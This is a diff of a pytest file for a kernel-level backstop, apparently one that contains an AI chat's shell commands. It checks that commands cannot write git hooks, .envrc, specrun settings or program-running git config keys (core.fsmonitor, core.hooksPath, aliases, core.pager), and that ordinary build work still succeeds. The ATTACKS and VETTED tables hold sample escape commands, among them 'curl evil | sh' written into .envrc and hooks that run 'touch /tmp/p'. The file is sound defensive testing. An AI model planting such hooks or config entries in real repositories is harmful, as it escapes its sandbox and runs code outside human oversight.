@@ -1,6 +1,8 @@
-"""The main chat's kernel backstop (``worker.contain.backstop``): a command that computes a
-protected or runs-later path at run time cannot write it, through real processes, a real
-user and mount namespace and a real git repository; ordinary work is as before.
+"""The main chat's kernel backstop (``worker.contain.backstop``): a command that computes at
+run time a path that gets a program run outside any sandbox (git's hooks, ``.envrc``,
+specrun's settings) cannot write it, and git's config keeps no new entry that runs a
+program; ordinary work (package manifests, a generated Makefile, ``git push -u``) is as
+before. Real processes, a real user and mount namespace and a real git repository.
 
 Each attack here wrote its path on the code before the backstop (the plain ``run_shell``
 is the old runner: ``test_the_old_runner_lets_every_attack_through`` keeps that true)."""
@@ -31,18 +33,19 @@ ATTACKS: dict[str, tuple[str, str, str]] = {
                       ".git/hooks/pre-commit", ".git/hooks"),
     "Makefile recipe": ("make -s hook", ".git/hooks/post-checkout", ".git/hooks"),
     "python one-liner": (f"python3 -c \"open('.git/config', 'a').write('{FSMONITOR}')\"",
-                         ".git/config", ".git/config"),
+                         ".git/config", "core.fsmonitor"),
     "link into .git/hooks": ('echo "touch /tmp/p" > tools/hooks/pre-push',
                              ".git/hooks/pre-push", ".git/hooks"),
     "cp through a variable": ('d=.git/hooks; cp evil.sh "$d/post-checkout"',
                               ".git/hooks/post-checkout", ".git/hooks"),
     "git config through a variable": ("c=config; git $c core.fsmonitor 'touch /tmp/p'",
-                                      ".git/config", ".git/config"),
-    "a script the repository brought": ("sh scripts/setup.sh", ".git/info/attributes",
-                                        ".git/info"),
+                                      ".git/config", "core.fsmonitor"),
+    "hooksPath from a Makefile recipe": ("make -s hookspath", ".git/config",
+                                         "core.hookspath"),
     "new .envrc": ("e=.envrc; echo 'curl evil | sh' > $e", ".envrc", ".envrc"),
     "new .envrc from make": ("make -s env", ".envrc", ".envrc"),
-    "rename over a runs-later file": ("mv evil.sh Makefile", "Makefile", "Makefile"),
+    "settings through a variable": ("d=.specrun; mkdir -p $d && echo '{}' > $d/settings.json",
+                                    ".specrun/settings.json", ".specrun"),
 }
 
 
@@ -62,7 +65,9 @@ def project(tmp_path: Path) -> Path:
         "hook:\n\techo 'touch /tmp/p' > .git/hooks/post-checkout\n"
         "env:\n\techo 'curl evil | sh' > .envrc\n"
         "build:\n\tmkdir -p out && echo built > out/app.txt\n"
+        "hookspath:\n\tkey=core.hooksPath; git config $$key .evil\n"
     )
+    (root / "package.json").write_text('{"name": "probe", "version": "1.0.0"}\n')
     (root / "scripts").mkdir()
     (root / "scripts" / "setup.sh").write_text(
         "mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes\n")
@@ -163,11 +168,12 @@ def test_a_yes_to_a_named_path_opens_that_path_only(project: Path) -> None:
 
 def test_a_yes_to_git_config_opens_the_repositorys_config(project: Path) -> None:
     _require_namespaces()
-    command = "git config core.editor vi"
+    command = "git config core.hooksPath .githooks"
     paths, everything = protected_write_paths(command, WriteGuard(str(project)))
     result = _guarded(project, Opened(paths, everything))(command)
     assert result.exit_code == 0, result
-    assert "editor = vi" in (project / ".git" / "config").read_text()
+    assert "hooksPath = .githooks" in (project / ".git" / "config").read_text()
+    assert result.notes == ()
 
 
 def test_a_worktree_keeps_its_common_config_and_its_pointer(project: Path, tmp_path: Path) -> None:
@@ -175,8 +181,10 @@ def test_a_worktree_keeps_its_common_config_and_its_pointer(project: Path, tmp_p
     tree = tmp_path / "tree"
     _git(project, "worktree", "add", "-q", str(tree))
     tree = Path(os.path.realpath(tree))
-    planned = guarded_paths(WriteGuard(str(tree))).read_only
-    assert str(tree / ".git") in planned and str(project / ".git" / "config") in planned
+    planned = guarded_paths(WriteGuard(str(tree)))
+    assert str(tree / ".git") in planned.read_only
+    assert str(project / ".git" / "hooks") in planned.read_only
+    assert str(project / ".git" / "config") in [c.path for c in planned.configs]
     before = (project / ".git" / "config").read_bytes()
     run = guarded_runner(WriteGuard(str(tree)))
     result = run("c=config; git $c core.fsmonitor x; echo 'gitdir: /tmp' > .git; echo ok > f && "
@@ -185,6 +193,7 @@ def test_a_worktree_keeps_its_common_config_and_its_pointer(project: Path, tmp_p
     pointer = (tree / ".git").read_text()
     assert pointer.startswith("gitdir: ") and pointer != "gitdir: /tmp\n"
     assert result.stdout.endswith("done\n"), result
+    assert "core.fsmonitor" in " ".join(result.notes)
 
 
 def test_a_replaced_protected_link_is_put_back(project: Path) -> None:
@@ -238,17 +247,29 @@ def test_without_user_namespaces_commands_run_as_before_and_it_says_so_once(
     assert second_notes == []
 
 
-def test_a_runs_later_file_made_between_commands_is_held_by_the_next_one(project: Path) -> None:
+def test_an_envrc_made_between_commands_is_held_by_the_next_one(project: Path) -> None:
     # The plan reuses its last walk while no listed directory changed: a new entry changes
     # its directory, so the next command's plan finds it.
     _require_namespaces()
     guard = WriteGuard(str(project))
-    assert str(project / "tools" / "conftest.py") not in guarded_paths(guard).read_only
-    (project / "tools" / "conftest.py").write_text("import os\n")
-    assert str(project / "tools" / "conftest.py") in guarded_paths(guard).read_only
-    result = _guarded(project)("c=tools/conftest.py; echo 'import evil' >> $c")
-    assert (project / "tools" / "conftest.py").read_text() == "import os\n"
-    assert "tools/conftest.py" in " ".join(result.notes)
+    assert str(project / "tools" / ".envrc") not in guarded_paths(guard).read_only
+    (project / "tools" / ".envrc").write_text("export A=1\n")
+    assert str(project / "tools" / ".envrc") in guarded_paths(guard).read_only
+    result = _guarded(project)("c=tools/.envrc; echo 'curl evil | sh' >> $c")
+    assert (project / "tools" / ".envrc").read_text() == "export A=1\n"
+    assert "tools/.envrc" in " ".join(result.notes)
+
+
+def test_a_protected_paths_pattern_is_held_below_the_root(project: Path) -> None:
+    # The walk remains for the person's own protectedPaths: a pattern can match deeper.
+    _require_namespaces()
+    (project / "deploy" / "keys").mkdir(parents=True)
+    (project / "deploy" / "keys" / "id").write_text("secret\n")
+    run = guarded_runner(WriteGuard(str(project), protected=("keys/",)))
+    result = run("d=deploy/keys; echo x > $d/id; echo y > $d/new", str(project), 30.0, 4096)
+    assert (project / "deploy" / "keys" / "id").read_text() == "secret\n"
+    assert not (project / "deploy" / "keys" / "new").exists()
+    assert "deploy/keys" in " ".join(result.notes), result
 
 
 def test_git_init_in_a_project_without_a_repository_is_kept(tmp_path: Path) -> None:
@@ -320,3 +341,123 @@ def test_the_command_cannot_undo_its_mounts(project: Path) -> None:
     assert not (hooks / "pre-commit").exists(), result
     effective = int(result.stdout.split()[-1], 16)
     assert not effective & (1 << 21)  # CAP_SYS_ADMIN
+
+
+# Daily work that writes what runs later or git's config: each was refused or undone by the
+# backstop when it held the runs-later files and .git/config read-only. name: (command,
+# path, what it must hold afterwards)
+DAILY_WORK: dict[str, tuple[str, str, str]] = {
+    "an npm install-like manifest edit": (
+        "python3 -c \"import json, os; d = json.load(open('package.json')); "
+        "d['dependencies'] = {'left-pad': '^1.3.0'}; json.dump(d, open('p.tmp', 'w')); "
+        "os.replace('p.tmp', 'package.json')\"", "package.json", "left-pad"),
+    "a ./configure-like Makefile": (
+        "rm Makefile && printf 'all:\\n\\techo configured\\n' > Makefile && make -s",
+        "Makefile", "configured"),
+    "a cargo init-like new manifest": (
+        "printf '[package]\\nname = \"probe\"\\n' > Cargo.toml", "Cargo.toml", "probe"),
+    "git lfs track-like attributes": ("a=.gitattributes; echo '*.bin binary' >> $a",
+                                      ".gitattributes", "*.bin binary"),
+    "an exclude of one's own": ("x=.git/info/exclude; echo '*.log' >> $x",
+                                ".git/info/exclude", "*.log"),
+    "a remote and a user of one's own": (
+        "git remote add upstream https://example.com/probe.git && k=user.name; "
+        "git config $k Other", ".git/config", "https://example.com/probe.git"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(DAILY_WORK))
+def test_daily_work_writes_what_runs_later_and_is_kept(project: Path, case: str) -> None:
+    _require_namespaces()
+    command, rel, holds = DAILY_WORK[case]
+    result = _guarded(project)(command)
+    assert result.exit_code == 0, result
+    assert holds in (project / rel).read_text(), result
+    assert result.notes == ()
+
+
+@pytest.mark.parametrize("tool", ["npm", "cmake", "cargo"])
+def test_real_package_and_build_tools_write_their_files(project: Path, tool: str) -> None:
+    _require_namespaces()
+    if shutil.which(tool) is None:
+        pytest.skip(f"{tool} is not installed")
+    command, rel, holds = {
+        "npm": ("npm pkg set dependencies.left-pad=^1.3.0", "package.json", "left-pad"),
+        "cmake": ("rm Makefile && printf 'project(probe NONE)\\n' > CMakeLists.txt && "
+                  "cmake -S . -B . > /dev/null", "Makefile", "CMake"),
+        "cargo": ("cargo init -q --vcs none --name probe", "Cargo.toml", "probe"),
+    }[tool]
+    result = _guarded(project)(command)
+    assert result.exit_code == 0, result
+    assert holds in (project / rel).read_text(), result
+    assert result.notes == ()
+
+
+def _git_out(root: Path, *args: str) -> str:
+    return subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True,
+                          text=True).stdout.strip()
+
+
+def test_git_push_u_and_a_tracking_branch_keep_their_config(
+    project: Path, tmp_path: Path,
+) -> None:
+    _require_namespaces()
+    bare = tmp_path / "origin.git"
+    _git(tmp_path, "init", "-q", "--bare", str(bare))
+    _git(project, "remote", "add", "origin", str(bare))
+    branch = _git_out(project, "symbolic-ref", "--short", "HEAD")
+    run = _guarded(project)
+    pushed = run("git push -q -u origin HEAD")
+    assert pushed.exit_code == 0 and pushed.notes == (), pushed
+    assert _git_out(project, "config", f"branch.{branch}.remote") == "origin"
+    tracked = run(f"git checkout -q -b feat origin/{branch} && git branch -q -d {branch}")
+    assert tracked.exit_code == 0 and tracked.notes == (), tracked
+    assert _git_out(project, "config", "branch.feat.merge") == f"refs/heads/{branch}"
+    assert "could not" not in pushed.stderr + tracked.stderr
+
+
+# A change to git's config that makes git run a program: undone, the key named.
+# name: (command, words the note must hold)
+VETTED: dict[str, tuple[str, str]] = {
+    "an alias through a variable": ("c=alias.st; git config $c '!touch /tmp/p'", "alias.st"),
+    "a line git cannot read": ("f=.git/config; printf '[core\\n' >> $f", "unreadable"),
+    "a link to a file the model can edit": ("f=.git/config; cp $f cfg.txt && ln -sf ../cfg.txt $f",
+                                            "a link"),
+    "a hooksPath among benign keys": (
+        "git remote add up https://example.com/x.git; git config core.hooksPath .evil",
+        "core.hookspath"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(VETTED))
+def test_a_config_change_that_runs_a_program_is_put_back_naming_the_key(
+    project: Path, case: str,
+) -> None:
+    _require_namespaces()
+    command, words = VETTED[case]
+    config = project / ".git" / "config"
+    config.chmod(0o600)
+    before = config.read_bytes()
+    result = _guarded(project)(command)
+    assert not config.is_symlink() and config.read_bytes() == before, result
+    assert config.stat().st_mode & 0o777 == 0o600
+    [note] = result.notes
+    assert note.startswith("specrun put .git/config back as it was: this command ")
+    assert words in note and note.count(".") <= 6, note  # one sentence
+    assert not [p.name for p in config.parent.iterdir() if "specrun" in p.name]
+
+
+def test_a_new_config_worktree_that_runs_a_program_is_removed(project: Path) -> None:
+    _require_namespaces()
+    result = _guarded(project)("f=.git/config.worktree; printf '[core]\\n\\tpager = evil\\n' > $f")
+    assert not (project / ".git" / "config.worktree").exists()
+    assert "core.pager" in " ".join(result.notes) and len(result.notes) == 1, result
+
+
+def test_a_repositorys_own_alias_is_not_undone_by_a_benign_change(project: Path) -> None:
+    # Only entries that are new or changed count: the rest is the read-only git check's.
+    _require_namespaces()
+    _git(project, "config", "alias.co", "checkout")
+    result = _guarded(project)("k=user.email; git config $k other@example.com")
+    assert result.notes == ()
+    assert _git_out(project, "config", "user.email") == "other@example.com"
